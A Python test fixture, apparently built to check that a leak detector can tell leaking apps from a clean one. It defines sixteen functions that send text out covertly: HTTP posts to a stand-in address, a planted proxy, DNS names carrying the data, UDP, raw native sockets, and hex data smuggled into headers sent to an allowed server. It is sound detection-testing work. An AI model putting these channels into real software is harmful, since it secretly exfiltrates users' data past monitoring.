"""Apps that leak, each in its own way, and one that does not: what a proof must tell apart."""

from __future__ import annotations

import ctypes
import logging
import mmap
import os
import re
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import urllib.request
from contextlib import suppress
from pathlib import Path

LOG = logging.getLogger("app")
AWAY = "192.0.2.7"
"""An address that is nobody's (RFC 5737)."""


def post(text: str, url: str = f"http://{AWAY}/collect", **more: str) -> None:
    """Send a text to an address."""
    request = urllib.request.Request(url, data=text.encode(), headers=more)
    with suppress(OSError):
        urllib.request.build_opener().open(request, timeout=2).read()


def host_hook(text: str) -> None:
    """A hook of the host that posts what it sees."""
    post(text)


def environment_proxy(text: str) -> None:
    """A library that trusts the environment, and a proxy in it."""
    os.environ["http_proxy"] = f"http://{AWAY}:3128"
    try:
        post(text, "http://127.0.0.2:8/collect")
    finally:
        del os.environ["http_proxy"]


def dns_name(text: str) -> None:
    """A name that carries the text."""
    plain = re.sub("[^a-z0-9]+", "-", text.lower()).strip("-")
    labels = ".".join(plain[start : start + 60].strip("-") for start in range(0, min(len(plain), 180), 60))
    with suppress(OSError, UnicodeError):
        socket.getaddrinfo(f"{labels}.collector.example", 443)


def datagram(text: str) -> None:
    """One packet, no connection."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending, suppress(OSError):
        sending.sendto(text.encode(), (AWAY, 514))


def native_code(text: str) -> None:
    """A connection that Python knows nothing of."""
    libc = ctypes.CDLL(None)
    handle = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    address = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(8443), socket.inet_aton(AWAY))
    libc.connect(handle, address, len(address))
    os.close(handle)


def log_file(text: str) -> None:
    """A log file in the working folder."""
    handler = logging.FileHandler("app.log", encoding="utf-8")
    handler.emit(logging.LogRecord("app", logging.INFO, "", 0, text, None, None))
    handler.close()
    Path("app.log").unlink()


def log_record(text: str) -> None:
    """A log record that no handler takes yet."""
    LOG.debug("read %s", {"notes": text})


def temporary_file(text: str) -> None:
    """A file that is gone at once."""
    with tempfile.TemporaryFile() as file:
        file.write(text.encode())


def kept_file(text: str) -> None:
    """A file in a folder that the app may write."""
    (Path(os.environ["ALLOWED"]) / "cache.bin").write_bytes(text.encode("utf-16-le").hex().encode())


def kept_in_code(text: str) -> None:
    """The same, hidden."""
    Path(os.environ["ALLOWED"], "index.json").write_text("".join(f"\\u{ord(c):04x}" for c in text), "ascii")


def mapped_file(text: str) -> None:
    """A mapped file in a folder that the app may not write."""
    handle = os.open(os.environ["MAPPED"], os.O_RDWR)
    with mmap.mmap(handle, 0) as mapped:
        mapped[:1] = text[:1].encode("ascii", "replace")
    os.close(handle)


def printed(text: str) -> None:
    """A line on standard output."""
    print(text.upper())


def program(text: str) -> None:
    """An argument that everybody sees."""
    subprocess.run([sys.executable, "-c", "", text], check=False)


def exception(text: str) -> None:
    """An error that quotes."""
    raise ValueError(text)


def thread(text: str) -> None:
    """A thread that asks the allowed server."""
    other = threading.Thread(target=post, args=(text, os.environ["OPENAI_BASE_URL"]))
    other.start()
    other.join()


def header(text: str) -> None:
    """A header of a request to the allowed server."""
    post("{}", os.environ["OPENAI_BASE_URL"], Trace=text.encode().hex())


WAYS = (
    *(host_hook, environment_proxy, dns_name, datagram, native_code, log_file, log_record, temporary_file),
    *(kept_file, kept_in_code, mapped_file, printed, program, exception, thread, header),
)
_turns = iter(range(10**9))


def leaks(text: str) -> None:
    """Leak each text in the next way."""
    WAYS[next(_turns) % len(WAYS)](text)


def counts(text: str) -> None:
    """Count letters, in the folder that it may write: nothing leaks."""
    Path(os.environ["ALLOWED"], "count").write_text(str(len(text)), "ascii")
    LOG.info("%d letters", len(text))
